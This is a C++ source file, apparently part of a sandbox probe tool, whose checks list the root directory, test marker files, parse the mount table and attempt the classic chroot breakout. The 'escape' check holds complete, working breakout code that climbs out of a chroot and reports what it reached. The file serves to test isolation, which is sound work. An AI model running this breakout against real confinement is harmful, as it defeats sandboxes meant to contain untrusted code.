// Stage 01 checks: the root directory, marker files, the mount table, the chroot escape.
#include "probe.hpp"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <sstream>

using probe::Json;

BOX_PROBE_CHECK(check_root, "root", "", "list the root directory and say where we stand") {
    r.set("entries", probe::list_dir("/"));
    char cwd[4096];
    r.set("cwd", getcwd(cwd, sizeof cwd) ? cwd : "?");
    r.set("rootfs_marker", access("/etc/boxkit-rootfs", F_OK) == 0);
}

BOX_PROBE_CHECK(check_marker, "marker", "PATH...", "say whether each PATH exists") {
    if (args.empty()) throw probe::ProbeError("marker needs at least one PATH");
    Json seen = Json::object();
    for (const auto& p : args) seen[p] = access(p.c_str(), F_OK) == 0;
    r.set("exists", seen);
}

BOX_PROBE_CHECK(check_mounts, "mounts", "", "the mount table as this process sees it") {
    std::istringstream in(probe::read_file("/proc/self/mountinfo"));
    if (in.str().empty()) throw probe::ProbeError("cannot read /proc/self/mountinfo: is /proc mounted?");
    Json list = Json::array();
    std::string line;
    while (std::getline(in, line)) {
        // fields: id parent major:minor root mountpoint options ... - fstype source superopts
        std::istringstream f(line);
        std::string id, parent, dev, root, point, field;
        f >> id >> parent >> dev >> root >> point;
        while (f >> field && field != "-") {}
        std::string fstype;
        f >> fstype;
        list.push_back(point + " " + fstype);
    }
    r.set("count", list.size());
    r.set("mounts", list);
}

// The classic chroot breakout. chroot(2) changes the root but not the working directory, and
// ".." stops only at the process's root. So: chroot into a subdirectory (the root moves below
// us), climb ".." from where we stand until it stops moving, and chroot(".") there.
BOX_PROBE_CHECK(check_escape, "escape", "[--marker PATH]", "try the chroot breakout; report what it reached") {
    std::string marker;
    for (std::size_t i = 0; i < args.size(); ++i)
        if (args[i] == "--marker" && i + 1 < args.size()) marker = args[++i];
        else throw probe::ProbeError("escape takes only --marker PATH");
    struct stat before{};
    stat("/", &before);
    int tmp = open("/tmp", O_RDONLY | O_DIRECTORY);
    if (tmp < 0) tmp = open("/", O_RDONLY | O_DIRECTORY);
    std::string name = ".box-escape-" + std::to_string(getpid());
    if (mkdirat(tmp, name.c_str(), 0700) != 0 && errno != EEXIST)
        throw probe::ProbeError(std::string("mkdir: ") + std::strerror(errno));
    int sub = openat(tmp, name.c_str(), O_RDONLY | O_DIRECTORY);
    if (fchdir(sub) != 0 || chroot(".") != 0) {   // 1. root moves into the subdirectory...
        int err = errno;
        unlinkat(tmp, name.c_str(), AT_REMOVEDIR);
        r.set("escaped", false);
        r.set("step_failed", "chroot(subdir)");
        r.set("errno", probe::errno_name(err));
        return;
    }
    fchdir(tmp);                                   // ...while we stand outside it
    for (int i = 0; i < 256; ++i) chdir("..");     // 2. climb: ".." never meets our root
    int ok = chroot(".");                          // 3. make wherever we got the root
    struct stat after{};
    stat("/", &after);
    bool escaped = ok == 0 && (after.st_dev != before.st_dev || after.st_ino != before.st_ino);
    r.set("escaped", escaped);
    r.set("reached", probe::list_dir("/"));
    if (!marker.empty()) r.set("marker_visible", access(marker.c_str(), F_OK) == 0);
    unlinkat(tmp, name.c_str(), AT_REMOVEDIR);
    close(sub);
    close(tmp);
}
